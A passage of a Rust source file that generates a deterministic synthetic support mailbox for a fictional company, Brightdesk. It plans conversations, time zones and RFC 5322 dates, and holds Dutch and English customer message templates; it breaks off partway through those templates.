//! A realistic shared support mailbox of a small Dutch/English company, generated from a
//! seed: the demo's mailbox, test data and the 100,000-message benchmark.
//!
//! Customers write to the shared address (Inbox); the team answers from it (Sent) with
//! correct In-Reply-To/References and quoted history; customers write back. Threads run
//! from one message (spam, newsletters, brand-new questions) to 30. About half the
//! conversations are Dutch. The mail is as untidy as real mail: HTML from Outlook and
//! Gmail, a newsletter with a remote and a `cid:` image, attachments with accented
//! names, forwards inline and as `message/rfc822`, bounces (`multipart/report`), legacy
//! and broken character sets, Outlook replies without References, a message without
//! Message-ID and a phishing attempt with hostile HTML.
//!
//! How it stays fast and deterministic: first a light plan of every conversation (who,
//! what, when) is drawn from the seed; then messages are rendered one at a time in the
//! order they arrived, each from its own seed (conversation, position), so a reply can
//! re-render the message it quotes without keeping earlier messages around.

use fastrand::Rng;

/// A team member of the shared mailbox.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Member {
    pub id: String,
    pub name: String,
}

/// What to generate.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CorpusOptions {
    pub seed: u64,
    /// Stop after about this many messages (whole conversations are kept).
    pub messages: usize,
    /// The shared address, e.g. `support@brightdesk.example`.
    pub shared_address: String,
    /// The company's name, e.g. "Brightdesk".
    pub company: String,
    pub members: Vec<Member>,
    /// Unix seconds; messages are spread over the ~120 days before and never later.
    pub now: i64,
}

/// Where a message is stored.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum CorpusFolder {
    Inbox,
    Sent,
}

impl CorpusFolder {
    /// The IMAP folder name.
    pub fn name(self) -> &'static str {
        match self {
            CorpusFolder::Inbox => "INBOX",
            CorpusFolder::Sent => "Sent",
        }
    }
}

/// One generated message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CorpusMessage {
    pub folder: CorpusFolder,
    /// When it arrived (Inbox) or was sent (Sent), unix seconds; the Date header says
    /// the same instant (a few seconds earlier for received mail) in the writer's zone.
    pub received_at: i64,
    pub seen: bool,
    /// The team replied to it.
    pub answered: bool,
    /// RFC 5322 bytes with CRLF line endings.
    pub raw: Vec<u8>,
}

impl CorpusMessage {
    /// Maildir flag letters ("S", "RS" or ""), in the order maildir wants them.
    pub fn maildir_flags(&self) -> &'static str {
        match (self.answered, self.seen) {
            (true, true) => "RS",
            (true, false) => "R",
            (false, true) => "S",
            (false, false) => "",
        }
    }
}

const DAY: i64 = 86_400;
const HOUR: i64 = 3_600;
const WINDOW_DAYS: i64 = 120;

impl CorpusOptions {
    /// The demo's mailbox: about 1,200 messages in more than 300 conversations for
    /// Brightdesk's support address, answered by Anna, Bram and Chloé, ending now
    /// (rounded down to the hour, so runs within the hour give the same bytes).
    pub fn demo() -> Self {
        let now = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| d.as_secs() as i64)
            .unwrap_or(1_772_000_000);
        Self::demo_at(now - now.rem_euclid(HOUR))
    }

    /// The demo's mailbox, ending at `now` (unix seconds).
    pub fn demo_at(now: i64) -> Self {
        CorpusOptions {
            seed: 0xB47_0D35C,
            messages: 1_200,
            shared_address: "support@brightdesk.example".to_owned(),
            company: "Brightdesk".to_owned(),
            members: vec![
                Member {
                    id: "anna".into(),
                    name: "Anna de Vries".into(),
                },
                Member {
                    id: "bram".into(),
                    name: "Bram Jansen".into(),
                },
                Member {
                    id: "chloe".into(),
                    name: "Chloé Martin".into(),
                },
            ],
            now,
        }
    }
}

/// Generates the mailbox, in the order the messages arrived.
pub fn generate(options: &CorpusOptions) -> impl Iterator<Item = CorpusMessage> {
    let plan = Plan::new(options);
    let mut position = 0;
    std::iter::from_fn(move || {
        let &(_, conv, k) = plan.order.get(position)?;
        position += 1;
        Some(plan.render(conv as usize, k as usize))
    })
}

// ---------------------------------------------------------------------------------
// The plan.

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Lang {
    En,
    Nl,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Topic {
    Order,
    Invoice,
    Refund,
    Return,
    Login,
    ShippingDelay,
    Bug,
    Feature,
    Complaint,
    Question,
    Partnership,
    ColdSales,
    Newsletter,
    Phishing,
}

/// How a customer's mail program writes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Client {
    Gmail,
    Outlook,
    Apple,
    Thunderbird,
}

/// Features placed at least once in any corpus big enough, and at random elsewhere.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Special {
    Latin1,
    Windows1252,
    QuotedPrintable,
    Base64Text,
    UnknownCharset,
    InvalidUtf8,
    NoMessageId,
    OutlookNoReferences,
    InlineForward,
    Rfc822Forward,
    Attachments,
    NewsletterCid,
    Bounce,
    Phishing,
    LongThread,
    OutlookHtml,
    GmailHtml,
}

const FORCED: &[Special] = &[
    Special::NewsletterCid,
    Special::Phishing,
    Special::Bounce,
    Special::Latin1,
    Special::Windows1252,
    Special::QuotedPrintable,
    Special::Base64Text,
    Special::UnknownCharset,
    Special::InvalidUtf8,
    Special::NoMessageId,
    Special::OutlookNoReferences,
    Special::InlineForward,
    Special::Rfc822Forward,
    Special::Attachments,
    Special::LongThread,
    Special::OutlookHtml,
    Special::GmailHtml,
];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Origin {
    Nl,
    Be,
    Uk,
    De,
    Tr,
    Ma,
    Fr,
    Pl,
}

struct Person {
    first: &'static str,
    last: &'static str,
    origin: Origin,
}

const PEOPLE: &[Person] = &[
    Person {
        first: "Jan",
        last: "Jansen",
        origin: Origin::Nl,
    },
    Person {
        first: "Sanne",
        last: "de Boer",
        origin: Origin::Nl,
    },
    Person {
        first: "Pieter",
        last: "van Dijk",
        origin: Origin::Nl,
    },
    Person {
        first: "Femke",
        last: "Bakker",
        origin: Origin::Nl,
    },
    Person {
        first: "Daan",
        last: "Visser",
        origin: Origin::Nl,
    },
    Person {
        first: "Lotte",
        last: "Smit",
        origin: Origin::Nl,
    },
    Person {
        first: "Thijs",
        last: "Mulder",
        origin: Origin::Nl,
    },
    Person {
        first: "Eva",
        last: "de Graaf",
        origin: Origin::Nl,
    },
    Person {
        first: "Lieke",
        last: "Vos",
        origin: Origin::Nl,
    },
    Person {
        first: "Ruben",
        last: "Hendriks",
        origin: Origin::Nl,
    },
    Person {
        first: "Anouk",
        last: "Dekker",
        origin: Origin::Nl,
    },
    Person {
        first: "Joost",
        last: "van der Meer",
        origin: Origin::Nl,
    },
    Person {
        first: "Noor",
        last: "Kuipers",
        origin: Origin::Nl,
    },
    Person {
        first: "Kees",
        last: "Brouwer",
        origin: Origin::Nl,
    },
    Person {
        first: "Marieke",
        last: "van den Berg",
        origin: Origin::Nl,
    },
    Person {
        first: "Sven",
        last: "Willems",
        origin: Origin::Nl,
    },
    Person {
        first: "Rajesh",
        last: "Ramdin",
        origin: Origin::Nl,
    },
    Person {
        first: "Priya",
        last: "Sewnarain",
        origin: Origin::Nl,
    },
    Person {
        first: "Wout",
        last: "Claes",
        origin: Origin::Be,
    },
    Person {
        first: "Elke",
        last: "Janssens",
        origin: Origin::Be,
    },
    Person {
        first: "Jens",
        last: "Maes",
        origin: Origin::Be,
    },
    Person {
        first: "Lien",
        last: "Wouters",
        origin: Origin::Be,
    },
    Person {
        first: "Pieter-Jan",
        last: "Goossens",
        origin: Origin::Be,
    },
    Person {
        first: "Sofie",
        last: "De Smet",
        origin: Origin::Be,
    },
    Person {
        first: "Renée",
        last: "Dubois",
        origin: Origin::Be,
    },
    Person {
        first: "Oliver",
        last: "Bennett",
        origin: Origin::Uk,
    },
    Person {
        first: "Emily",
        last: "Carter",
        origin: Origin::Uk,
    },
    Person {
        first: "James",
        last: "Whitfield",
        origin: Origin::Uk,
    },
    Person {
        first: "Sophie",
        last: "Turner",
        origin: Origin::Uk,
    },
    Person {
        first: "Harry",
        last: "Collins",
        origin: Origin::Uk,
    },
    Person {
        first: "Grace",
        last: "O'Neill",
        origin: Origin::Uk,
    },
    Person {
        first: "Lukas",
        last: "Schmidt",
        origin: Origin::De,
    },
    Person {
        first: "Anna",
        last: "Müller",
        origin: Origin::De,
    },
    Person {
        first: "Jonas",
        last: "Becker",
        origin: Origin::De,
    },
    Person {
        first: "Lea",
        last: "Schäfer",
        origin: Origin::De,
    },
    Person {
        first: "Ayşe",
        last: "Yılmaz",
        origin: Origin::Tr,
    },
    Person {
        first: "Mehmet",
        last: "Demir",
        origin: Origin::Tr,
    },
    Person {
        first: "Emre",
        last: "Çelik",
        origin: Origin::Tr,
    },
    Person {
        first: "Zeynep",
        last: "Kaya",
        origin: Origin::Tr,
    },
    Person {
        first: "Burak",
        last: "Öztürk",
        origin: Origin::Tr,
    },
    Person {
        first: "Yasmina",
        last: "El Amrani",
        origin: Origin::Ma,
    },
    Person {
        first: "Mohamed",
        last: "Bennani",
        origin: Origin::Ma,
    },
    Person {
        first: "Fatima",
        last: "Ouahbi",
        origin: Origin::Ma,
    },
    Person {
        first: "Youssef",
        last: "El Idrissi",
        origin: Origin::Ma,
    },
    Person {
        first: "Samira",
        last: "Bouzid",
        origin: Origin::Ma,
    },
    Person {
        first: "Françoise",
        last: "Lefèvre",
        origin: Origin::Fr,
    },
    Person {
        first: "Julien",
        last: "Moreau",
        origin: Origin::Fr,
    },
    Person {
        first: "Camille",
        last: "Dubois",
        origin: Origin::Fr,
    },
    Person {
        first: "Katarzyna",
        last: "Nowak",
        origin: Origin::Pl,
    },
    Person {
        first: "Piotr",
        last: "Kowalski",
        origin: Origin::Pl,
    },
];

const COMPANIES: &[&str] = &[
    "Bakkerij Jansen",
    "Café de Hoek",
    "Studio Noord",
    "Van Dijk Installatietechniek",
    "Kaya Bouw",
    "Bloemenhuis Lotus",
    "Fysiotherapie Oost",
    "Tandartspraktijk Smile",
    "Architectenbureau Lijn",
    "De Groene Vork",
    "Atelier Maes",
    "Northwind Consulting",
    "Brouwerij 't Hoekje",
    "Kinderopvang Zonnestraal",
];

/// A conversation as planned: who writes when.
struct Conv {
    index: u32,
    lang: Lang,
    topic: Topic,
    person: u16,
    company: Option<u16>,
    client: Client,
    special: Option<Special>,
    member: u8,
    /// Facts the messages mention.
    order: u32,
    invoice: u16,
    amount_cents: u32,
    product: u8,
    carrier: u8,
    msgs: Vec<MsgPlan>,
}

#[derive(Clone, Copy)]
struct MsgPlan {
    at: i64,
    kind: MsgKind,
    member: u8,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum MsgKind {
    Customer,
    Team,
    /// A delivery failure returning message `of` (a team reply).
    Bounce {
        of: u16,
    },
}

struct Plan {
    options: CorpusOptions,
    domain: String,
    convs: Vec<Conv>,
    /// (received_at, conversation, position), sorted.
    order: Vec<(i64, u32, u16)>,
}

fn mix(mut x: u64) -> u64 {
    // splitmix64: a bijection, so distinct inputs give distinct ids.
    x = x.wrapping_add(0x9E37_79B9_7F4A_7C15);
    x = (x ^ (x >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    x ^ (x >> 31)
}

impl Plan {
    fn new(options: &CorpusOptions) -> Plan {
        let mut rng = Rng::with_seed(options.seed);
        let domain = options
            .shared_address
            .rsplit_once('@')
            .map_or("example.com", |(_, d)| d)
            .to_owned();
        let mut convs = Vec::new();
        let mut total = 0usize;
        let mut index = 0u32;
        while total < options.messages {
            let forced = forced_special(index);
            let conv = plan_conversation(&mut rng, index, forced, options);
            total += conv.msgs.len();
            if !conv.msgs.is_empty() {
                convs.push(conv);
            }
            index += 1;
            if index > 10 * options.messages as u32 + 10 {
                break;
            }
        }
        let mut order: Vec<(i64, u32, u16)> = Vec::with_capacity(total);
        for (ci, conv) in convs.iter().enumerate() {
            for (k, m) in conv.msgs.iter().enumerate() {
                order.push((m.at, ci as u32, k as u16));
            }
        }
        order.sort_unstable();
        Plan {
            options: options.clone(),
            domain,
            convs,
            order,
        }
    }
}

/// Forced features go to conversations 2, 9, 16, …: spread over the plan, present as
/// soon as the corpus has a few dozen conversations.
fn forced_special(index: u32) -> Option<Special> {
    if index % 7 != 2 {
        return None;
    }
    FORCED.get((index / 7) as usize).copied()
}

fn pick<T: Copy>(rng: &mut Rng, items: &[T]) -> T {
    items[rng.usize(..items.len())]
}

fn plan_conversation(
    rng: &mut Rng,
    index: u32,
    forced: Option<Special>,
    options: &CorpusOptions,
) -> Conv {
    let now = options.now;
    let mut person = rng.u16(..PEOPLE.len() as u16);
    if forced == Some(Special::Latin1) {
        // Someone whose name needs Latin-1.
        person = PEOPLE.iter().position(|p| p.first == "Renée").unwrap_or(0) as u16;
    }
    let origin = PEOPLE[person as usize].origin;
    let dutch_share = match origin {
        Origin::Nl => 90,
        Origin::Be => 80,
        Origin::Tr | Origin::Ma => 60,
        Origin::Pl => 30,
        _ => 5,
    };
    let mut lang = if rng.u8(..100) < dutch_share {
        Lang::Nl
    } else {
        Lang::En
    };
    let mut topic = pick(
        rng,
        &[
            Topic::Order,
            Topic::Order,
            Topic::Order,
            Topic::Order,
            Topic::Invoice,
            Topic::Invoice,
            Topic::Invoice,
            Topic::Refund,
            Topic::Refund,
            Topic::Return,
            Topic::Return,
            Topic::Login,
            Topic::Login,
            Topic::ShippingDelay,
            Topic::ShippingDelay,
            Topic::Bug,
            Topic::Bug,
            Topic::Feature,
            Topic::Complaint,
            Topic::Complaint,
            Topic::Question,
            Topic::Question,
            Topic::Partnership,
            Topic::ColdSales,
            Topic::ColdSales,
            Topic::Newsletter,
        ],
    );
    let mut special = forced;
    if special.is_none() {
        let roll = rng.u16(..1000);
        special = match roll {
            0..=7 => Some(Special::Latin1),
            8..=15 => Some(Special::Windows1252),
            16..=35 => Some(Special::QuotedPrintable),
            36..=50 => Some(Special::Base64Text),
            51..=53 => Some(Special::UnknownCharset),
            54..=56 => Some(Special::InvalidUtf8),
            57..=66 => Some(Special::InlineForward),
            67..=71 => Some(Special::Rfc822Forward),
            72..=131 => Some(Special::Attachments),
            132..=136 => Some(Special::Bounce),
            137..=146 => Some(Special::NewsletterCid),
            147..=226 => Some(Special::OutlookHtml),
            227..=306 => Some(Special::GmailHtml),
            307..=326 => Some(Special::LongThread),
            357..=420 => Some(Special::OutlookNoReferences),
            _ => None,
        };
    }
    match special {
        Some(Special::Phishing) => topic = Topic::Phishing,
        Some(Special::NewsletterCid) => topic = Topic::Newsletter,
        Some(Special::LongThread) => {
            topic = pick(
                rng,
                &[Topic::Bug, Topic::Complaint, Topic::Order, Topic::Refund],
            )
        }
        Some(Special::Rfc822Forward | Special::InlineForward) => {
            topic = pick(rng, &[Topic::ShippingDelay, Topic::Order, Topic::Complaint])
        }
        Some(Special::Bounce) => {
            if matches!(
                topic,
                Topic::ColdSales | Topic::Newsletter | Topic::Phishing
            ) {
                topic = Topic::Order;
            }
        }
        _ => {}
    }
    if matches!(topic, Topic::Newsletter | Topic::Phishing) && special == Some(Special::Attachments)
    {
        special = None;
    }
    if matches!(
        topic,
        Topic::ColdSales | Topic::Partnership | Topic::Newsletter
    ) && !matches!(origin, Origin::Nl | Origin::Be)
    {
        lang = Lang::En;
    }
    if topic == Topic::ColdSales {
        lang = Lang::En;
    }
    let client = match special {
        Some(Special::OutlookHtml | Special::OutlookNoReferences | Special::Rfc822Forward) => {
            Client::Outlook
        }
        Some(Special::GmailHtml | Special::InlineForward) => Client::Gmail,
        _ => pick(
            rng,
            &[
                Client::Gmail,
                Client::Gmail,
                Client::Gmail,
                Client::Outlook,
                Client::Outlook,
                Client::Apple,
                Client::Apple,
                Client::Thunderbird,
            ],
        ),
    };
    let company =
        (client == Client::Outlook || rng.u8(..4) == 0).then(|| rng.u16(..COMPANIES.len() as u16));
    let member = rng.u8(..options.members.len().max(1) as u8);

    // Length of the conversation, in messages.
    let planned_len: usize = match topic {
        Topic::Newsletter | Topic::Phishing => 1,
        Topic::ColdSales => pick(rng, &[1, 1, 1, 2, 3]),
        Topic::Partnership => pick(rng, &[1, 2, 2, 3, 4]),
        _ if special == Some(Special::LongThread) => rng.usize(10..=30),
        _ if matches!(special, Some(Special::NoMessageId)) => 1,
        _ if matches!(special, Some(Special::Bounce)) => 2,
        _ if matches!(special, Some(Special::OutlookNoReferences)) => rng.usize(3..=5),
        _ => {
            let r = rng.u8(..100);
            match r {
                0..=17 => 1,
                18..=52 => 2,
                53..=69 => 3,
                70..=81 => 4,
                82..=96 => rng.usize(5..=9),
                _ => rng.usize(10..=16),
            }
        }
    };

    // The first message: most within office hours, older for forced features (so their
    // replies fit before now).
    let earliest = now - WINDOW_DAYS * DAY;
    let latest = if forced.is_some() {
        now - 12 * DAY
    } else {
        now - HOUR / 2
    };
    let first_at = earliest + rng.i64(0..=(latest - earliest).max(1));
    let team_first = topic == Topic::ShippingDelay && rng.u8(..5) == 0;
    let mut at = office_time(rng, first_at, team_first);
    let mut msgs = Vec::with_capacity(planned_len + 1);
    let mut from_team = team_first;
    let mut current_member = member;
    for k in 0..planned_len {
        if at > now {
            break;
        }
        let kind = if from_team {
            MsgKind::Team
        } else {
            MsgKind::Customer
        };
        if from_team && k > 2 && rng.u8(..8) == 0 {
            current_member = rng.u8(..options.members.len().max(1) as u8);
        }
        msgs.push(MsgPlan {
            at,
            kind,
            member: current_member,
        });
        // Who writes next: mostly the other side; sometimes the customer twice ("any
        // news?"); spam and newsletters are never answered.
        let next_team = match topic {
            Topic::ColdSales => rng.u8(..6) == 0 && !from_team,
            _ => {
                if from_team {
                    false
                } else {
                    rng.u8(..10) != 0
                }
            }
        };
        let delay = if next_team {
            // Team: minutes to a day, office hours.
            pick(
                rng,
                &[
                    20 * 60,
                    45 * 60,
                    2 * HOUR,
                    3 * HOUR,
                    5 * HOUR,
                    20 * HOUR,
                    26 * HOUR,
                ],
            ) + rng.i64(0..3600)
        } else {
            pick(
                rng,
                &[HOUR, 3 * HOUR, 6 * HOUR, 20 * HOUR, 2 * DAY, 3 * DAY],
            ) + rng.i64(0..4 * 3600)
        };
        at = office_time(rng, at + delay, next_team);
        from_team = next_team;
    }
    // Spam and newsletters: one sender only.
    if matches!(topic, Topic::Newsletter | Topic::Phishing) {
        msgs.truncate(1);
    }
    if special == Some(Special::Bounce) {
        // The team's reply bounces a minute later.
        if let Some(pos) = msgs.iter().position(|m| m.kind == MsgKind::Team) {
            let bounce_at = msgs[pos].at + rng.i64(20..240);
            msgs.truncate(pos + 1);
            if bounce_at <= now {
                msgs.push(MsgPlan {
                    at: bounce_at,
                    kind: MsgKind::Bounce { of: pos as u16 },
                    member: msgs[pos].member,
                });
            }
        }
    }
    Conv {
        index,
        lang,
        topic,
        person,
        company,
        client,
        special,
        member,
        order: 10_000 + rng.u32(..89_999),
        invoice: rng.u16(100..999),
        amount_cents: pick(
            rng,
            &[
                4_950, 12_900, 18_990, 24_900, 54_900, 79_900, 129_900, 3_495,
            ],
        ),
        product: rng.u8(..PRODUCTS.len() as u8),
        carrier: rng.u8(..CARRIERS.len() as u8),
        msgs,
    }
}

/// Moves a time into office hours (Amsterdam time) most of the time: always for the
/// team, for three in four customer messages.
fn office_time(rng: &mut Rng, at: i64, team: bool) -> i64 {
    let offset = Zone::Europe.offset(at);
    let local = at + offset;
    let day = local.div_euclid(DAY);
    let secs = local.rem_euclid(DAY);
    let weekday = (day + 3).rem_euclid(7); // 0 = Monday
    let in_hours = weekday < 5 && (8 * HOUR..18 * HOUR).contains(&secs);
    if in_hours || (!team && rng.u8(..4) == 0) {
        return at;
    }
    // Next working day (or later today) at 8:00–11:00.
    let mut target_day = if secs >= 18 * HOUR || weekday >= 5 {
        day + 1
    } else {
        day
    };
    while (target_day + 3).rem_euclid(7) >= 5 {
        target_day += 1;
    }
    let local_target = target_day * DAY + 8 * HOUR + rng.i64(0..3 * HOUR);
    local_target - Zone::Europe.offset(local_target - offset)
}

// ---------------------------------------------------------------------------------
// Time zones and dates.

#[derive(Clone, Copy)]
enum Zone {
    /// CET/CEST (Netherlands, Belgium, Germany, France, Poland).
    Europe,
    /// GMT/BST.
    Uk,
    /// +0300.
    Turkey,
    /// +0100.
    Morocco,
    /// Exchange servers often write UTC.
    Utc,
}

impl Zone {
    fn offset(self, utc: i64) -> i64 {
        match self {
            Zone::Europe => {
                if eu_summer_time(utc) {
                    2 * HOUR
                } else {
                    HOUR
                }
            }
            Zone::Uk => {
                if eu_summer_time(utc) {
                    HOUR
                } else {
                    0
                }
            }
            Zone::Turkey => 3 * HOUR,
            Zone::Morocco => HOUR,
            Zone::Utc => 0,
        }
    }
}

/// EU summer time: from 01:00 UTC on the last Sunday of March to 01:00 UTC on the last
/// Sunday of October.
fn eu_summer_time(utc: i64) -> bool {
    let (year, _, _) = civil_from_days(utc.div_euclid(DAY));
    let start = last_sunday(year, 3) * DAY + HOUR;
    let end = last_sunday(year, 10) * DAY + HOUR;
    (start..end).contains(&utc)
}

fn last_sunday(year: i64, month: u32) -> i64 {
    let last = days_from_civil(year, month, 31);
    last - (last + 4).rem_euclid(7)
}

/// Days since 1970-01-01 to (year, month, day) (H. Hinnant's algorithm).
fn civil_from_days(days: i64) -> (i64, u32, u32) {
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let y = yoe + era * 400;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let m = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    (if m <= 2 { y + 1 } else { y }, m, d)
}

fn days_from_civil(year: i64, month: u32, day: u32) -> i64 {
    let y = if month <= 2 { year - 1 } else { year };
    let era = y.div_euclid(400);
    let yoe = y.rem_euclid(400);
    let m = i64::from(month);
    let mp = if m > 2 { m - 3 } else { m + 9 };
    let doy = (153 * mp + 2) / 5 + i64::from(day) - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    era * 146_097 + doe - 719_468
}

struct Local {
    year: i64,
    month: u32,
    day: u32,
    hour: i64,
    minute: i64,
    second: i64,
    /// 0 = Monday.
    weekday: usize,
    offset: i64,
}

fn local_time(utc: i64, zone: Zone) -> Local {
    let offset = zone.offset(utc);
    let local = utc + offset;
    let days = local.div_euclid(DAY);
    let secs = local.rem_euclid(DAY);
    let (year, month, day) = civil_from_days(days);
    Local {
        year,
        month,
        day,
        hour: secs / HOUR,
        minute: secs % HOUR / 60,
        second: secs % 60,
        weekday: (days + 3).rem_euclid(7) as usize,
        offset,
    }
}

const WEEKDAYS_EN: [&str; 7] = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"];
const WEEKDAYS_EN_LONG: [&str; 7] = [
    "Monday",
    "Tuesday",
    "Wednesday",
    "Thursday",
    "Friday",
    "Saturday",
    "Sunday",
];
const WEEKDAYS_NL: [&str; 7] = ["ma", "di", "wo", "do", "vr", "za", "zo"];
const WEEKDAYS_NL_LONG: [&str; 7] = [
    "maandag",
    "dinsdag",
    "woensdag",
    "donderdag",
    "vrijdag",
    "zaterdag",
    "zondag",
];
const MONTHS_EN: [&str; 12] = [
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
];
const MONTHS_EN_LONG: [&str; 12] = [
    "January",
    "February",
    "March",
    "April",
    "May",
    "June",
    "July",
    "August",
    "September",
    "October",
    "November",
    "December",
];
const MONTHS_NL: [&str; 12] = [
    "jan", "feb", "mrt", "apr", "mei", "jun", "jul", "aug", "sep", "okt", "nov", "dec",
];
const MONTHS_NL_LONG: [&str; 12] = [
    "januari",
    "februari",
    "maart",
    "april",
    "mei",
    "juni",
    "juli",
    "augustus",
    "september",
    "oktober",
    "november",
    "december",
];

/// RFC 5322 date: "Tue, 03 Mar 2026 10:12:33 +0100".
fn rfc5322_date(utc: i64, zone: Zone) -> String {
    let t = local_time(utc, zone);
    let sign = if t.offset < 0 { '-' } else { '+' };
    let off = t.offset.abs();
    format!(
        "{}, {:02} {} {} {:02}:{:02}:{:02} {}{:02}{:02}",
        WEEKDAYS_EN[t.weekday],
        t.day,
        MONTHS_EN[(t.month - 1) as usize],
        t.year,
        t.hour,
        t.minute,
        t.second,
        sign,
        off / HOUR,
        off % HOUR / 60
    )
}

// ---------------------------------------------------------------------------------
// Rendering.

const PRODUCTS: &[(&str, &str)] = &[
    ("Flex standing desk", "sta-bureau Flex"),
    ("Axis ergonomic chair", "ergonomische bureaustoel Axis"),
    ("Lumo desk lamp", "bureaulamp Lumo"),
    ("Duo monitor arm", "monitorarm Duo"),
    ("Hush acoustic panel", "akoestisch paneel Hush"),
    (
        "Brightdesk Booking licence (10 seats)",
        "Brightdesk Booking-licentie (10 plekken)",
    ),
    ("Cable tray Neat", "kabelgoot Neat"),
];

const CARRIERS: &[&str] = &["PostNL", "DHL", "DPD", "bpost"];

struct Vars<'a> {
    first: &'a str,
    name: &'a str,
    member: &'a str,
    company: &'a str,
    customer_company: &'a str,
    order: String,
    invoice: String,
    amount: String,
    product: &'a str,
    carrier: &'a str,
    tracking: String,
}

/// Replaces `{key}` placeholders.
fn fill(template: &str, vars: &Vars<'_>) -> String {
    let mut out = String::with_capacity(template.len() + 64);
    let mut rest = template;
    while let Some(open) = rest.find('{') {
        out.push_str(&rest[..open]);
        let after = &rest[open + 1..];
        let Some(close) = after.find('}') else {
            out.push_str(&rest[open..]);
            return out;
        };
        match &after[..close] {
            "first" => out.push_str(vars.first),
            "name" => out.push_str(vars.name),
            "member" => out.push_str(vars.member),
            "company" => out.push_str(vars.company),
            "ccompany" => out.push_str(vars.customer_company),
            "order" => out.push_str(&vars.order),
            "invoice" => out.push_str(&vars.invoice),
            "amount" => out.push_str(&vars.amount),
            "product" => out.push_str(vars.product),
            "carrier" => out.push_str(vars.carrier),
            "tracking" => out.push_str(&vars.tracking),
            other => {
                out.push('{');
                out.push_str(other);
                out.push('}');
            }
        }
        rest = &after[close + 1..];
    }
    out.push_str(rest);
    out
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Role {
    Open,
    Nudge,
    Reply,
    Thanks,
    TeamFirst,
    TeamMiddle,
    TeamLast,
    Proactive,
}

/// The words of one message, before greeting, closing and signature.
fn templates(topic: Topic, lang: Lang, role: Role) -> &'static [&'static str] {
    use Lang::{En, Nl};
    use Role::*;
    use Topic::*;
    match (topic, lang, role) {
        (Order, En, Open) => &[
            "I ordered the {product} on your website two weeks ago (order {order}) but it still hasn't arrived. The tracking page hasn't changed in days. Can you tell me where it is?",
            "Could you tell me the status of order {order}? I paid {amount} and received a confirmation, but nothing since.",
            "My order {order} arrived today, but the box only contained the legs of the {product}. Where is the rest?",
        ],
        (Order, Nl, Open) => &[
            "Twee weken geleden heb ik via de website een {product} besteld (bestelling {order}), maar ik heb nog niets ontvangen. De track & trace staat al dagen stil. Kunt u zien waar het pakket is?",
            "Kunt u mij vertellen wat de status is van bestelling {order}? Ik heb {amount} betaald en een bevestiging gekregen, maar daarna niets meer.",
            "Vandaag is bestelling {order} bezorgd, maar in de doos zaten alleen de poten van de {product}. Waar is de rest?",
        ],
        (Invoice, En, Open) => &[
            "The invoice for order {order} (invoice {invoice}) shows the wrong company name and VAT number. Could you send a corrected invoice to this address?",
            "I was charged {amount} twice for invoice {invoice}. Please look into this and refund the double payment.",
            "Our accounts department needs a copy of invoice {invoice} with our purchase order number on it. Is that possible?",
        ],
        (Invoice, Nl, Open) => &[
            "Op factuur {invoice} voor bestelling {order} staan de verkeerde bedrijfsnaam en het verkeerde btw-nummer. Kunt u een gecorrigeerde factuur sturen?",
            "Er is twee keer {amount} afgeschreven voor factuur {invoice}. Willen jullie dit uitzoeken en het dubbele bedrag terugstorten?",
            "Onze boekhouding heeft een kopie van factuur {invoice} nodig met ons inkoopordernummer erop. Kan dat?",
        ],
        (Refund, En, Open) => &[
            "I returned the {product} from order {order} three weeks ago, but I haven't received my refund of {amount} yet. When can I expect it?",
            "I cancelled order {order} within the cooling-off period. Could you confirm the refund of {amount}?",
        ],
        (Refund, Nl, Open) => &[
            "Drie weken geleden heb ik de {product} van bestelling {order} teruggestuurd, maar ik heb mijn geld ({amount}) nog niet terug. Wanneer kan ik het verwachten?",
            "Ik heb bestelling {order} binnen de bedenktijd geannuleerd. Kunt u bevestigen dat {amount} wordt teruggestort?",
        ],
        (Return, En, Open) => &[
            "I'd like to return the {product} from order {order}; it doesn't fit under our desks. How do I get a return label?",
            "The {product} arrived with a big scratch on the top. I'd like to return it or get a replacement. Photos attached.",
        ],
        (Return, Nl, Open) => &[
            "Ik wil de {product} van bestelling {order} graag retourneren, hij past niet onder ons bureau. Hoe krijg ik een retourlabel?",
            "De {product} is bezorgd met een flinke kras op het blad. Ik wil hem graag retourneren of een nieuwe ontvangen. Foto's zitten in de bijlage.",
        ],
        (Login, En, Open) => &[
            "Since this morning I can't log in to the Brightdesk portal. It says my password is wrong, but the reset email never arrives.",
            "After the update the booking app keeps logging me out every few minutes. I'm on an iPhone 13.",
        ],
        (Login, Nl, Open) => &[
            "Sinds vanochtend kan ik niet meer inloggen op het Brightdesk-portaal. Er staat dat mijn wachtwoord onjuist is, maar de resetmail komt niet aan.",
            "Na de update logt de boekingsapp me om de paar minuten uit. Ik gebruik een Samsung Galaxy S23.",
        ],
        (ShippingDelay, En, Open) => &[
            "{carrier} says my parcel (tracking {tracking}) is delayed 'due to circumstances'. We need the {product} for a new employee starting Monday. Can you help?",
            "The delivery of order {order} was moved three times now. What is going on?",
        ],
        (ShippingDelay, Nl, Open) => &[
            "Volgens {carrier} heeft mijn pakket (track & trace {tracking}) vertraging 'door omstandigheden'. We hebben de {product} maandag nodig voor een nieuwe collega. Kunnen jullie helpen?",
